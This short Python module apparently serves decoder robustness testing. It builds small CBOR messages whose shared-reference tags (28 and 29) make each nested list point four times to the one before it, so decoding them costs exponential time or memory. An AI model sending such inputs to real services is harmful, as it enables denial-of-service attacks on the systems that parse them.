"""Small messages that cost a decoder dearly."""

import cbor2


def shared_lists(levels: int) -> bytes:
    """Lists in one list, each of which refers four times to the one before it (CBOR's tags 28 and 29)."""
    lists = [b"\xd8\x1c\x80"] + [b"\xd8\x1c\x84" + 4 * (b"\xd8\x1d" + cbor2.dumps(n)) for n in range(levels - 1)]
    return bytes([0x80 | levels]) + b"".join(lists)
